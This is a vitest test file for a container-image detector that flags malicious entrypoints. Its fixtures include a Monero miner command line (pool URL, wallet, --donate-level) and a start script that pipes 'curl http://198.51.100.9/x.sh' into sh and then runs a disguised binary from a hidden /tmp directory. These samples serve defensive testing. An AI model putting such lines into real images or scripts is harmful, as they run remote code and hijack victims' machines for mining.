// Tests for image-entrypoint: nginx, a node app and a java service start nothing suspicious; a cmd
// with pool, wallet and --donate-level, and a start script that fetches its payload and starts a
// program from a hidden /tmp directory, each give one finding on their image; without an image
// section, skipped.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import { makeSnapshot } from '../../../test/helpers/snapshot-builders.js';
import {
  MONERO_WALLET,
  imageSnapshot,
  unreadImageSnapshot,
  imageWith,
  nginxImage,
} from '../../../test/helpers/image-snapshot-builders.js';
import { runDetectors } from '../run.js';
import { imageEntrypoint } from './image-entrypoint.js';

const ruleset = await loadRuleset([defaultIocDir()]);

describe('image-entrypoint', () => {
  it('clean: nginx via its entrypoint script, a node app, a java service with -a', () => {
    const node = imageWith({
      ref: 'registry.example/shop/api:2.3',
      config: {
        entrypoint: ['docker-entrypoint.sh'],
        cmd: ['node', 'server.js', '--port', '3333'],
        user: 'node',
      },
      startScripts: [{ path: '/usr/local/bin/docker-entrypoint.sh', text: '#!/bin/sh\nset -e\nexec "$@"\n' }],
    });
    const java = imageWith({
      ref: 'registry.example/billing:7',
      config: { cmd: ['/bin/sh', '-c', 'exec java -Xmx512m -jar /app/app.jar -a fast -p 8080'] },
    });
    expect(runDetectors(imageSnapshot([nginxImage(), node, java]), ruleset, [imageEntrypoint])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: miner arguments in entrypoint and cmd; a start script that downloads and runs', () => {
    const miner = imageWith({
      ref: 'docker.io/evil/xmr:latest',
      config: {
        entrypoint: ['/usr/local/bin/app'],
        cmd: ['-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', MONERO_WALLET, '--donate-level', '1'],
      },
    });
    const fetcher = imageWith({
      ref: 'docker.io/evil/helper:1',
      config: { entrypoint: ['/bin/sh', '-c', '/start.sh'], user: 'app' },
      startScripts: [
        {
          path: '/start.sh',
          text: '#!/bin/sh\ncurl -fsSL http://198.51.100.9/x.sh | sh\nexec /tmp/.cache/kworker -c /tmp/.cache/c.json\n',
        },
      ],
    });
    const { findings } = runDetectors(imageSnapshot([miner, fetcher]), ruleset, [imageEntrypoint]);
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    const byImage = new Map(findings.map((f) => [f.data?.image, f]));
    const m = byImage.get('docker.io/evil/xmr:latest')!;
    expect(m).toMatchObject({
      kind: 'container-image',
      level: 'high',
      basis: 'autostart',
      messageId: 'minerArguments',
      data: { digest: miner.digest, carries: 'open-source-miner', runsAsRoot: 'yes' },
      remediate: [],
    });
    expect(m.message.en).toMatch(
      /^docker\.io\/evil\/xmr:latest starts a miner: miner arguments in its entrypoint and cmd: stratum\+tcp:\/\/pool\.supportxmr\.com:3333/,
    );
    expect(m.evidence[0]).toEqual({
      type: 'image',
      image: 'docker.io/evil/xmr:latest',
      digest: miner.digest,
    });
    expect(m.evidence).toContainEqual(expect.objectContaining({ type: 'match', value: MONERO_WALLET }));
    expect(m.evidence).toContainEqual(expect.objectContaining({ type: 'match', value: '--donate-level' }));

    const h = byImage.get('docker.io/evil/helper:1')!;
    expect(h.level).toBe('high');
    expect(h.data).toMatchObject({ user: 'app', runsAsRoot: 'no' });
    const ids = h.signals.map((s) => s.messageId).sort();
    expect(ids).toEqual(['downloadsAtStart', 'oddProgram']);
    expect(h.signals.find((s) => s.messageId === 'downloadsAtStart')).toMatchObject({
      data: { url: 'http://198.51.100.9/x.sh', downloader: 'curl' },
    });
    expect(h.signals.find((s) => s.messageId === 'oddProgram')!.message.en).toBe(
      'docker.io/evil/helper:1 starts /tmp/.cache/kworker from /tmp, a world-writable temporary directory (start script /start.sh)',
    );
  });

  it('skipped: an image target whose archive could not be read; not applicable on a host', () => {
    expect(runDetectors(unreadImageSnapshot(), ruleset, [imageEntrypoint])).toEqual({
      findings: [],
      skipped: [{ ruleId: 'image-entrypoint', missing: ['image'] }],
    });
    expect(runDetectors(makeSnapshot({}), ruleset, [imageEntrypoint])).toEqual({ findings: [], skipped: [] });
  });
});
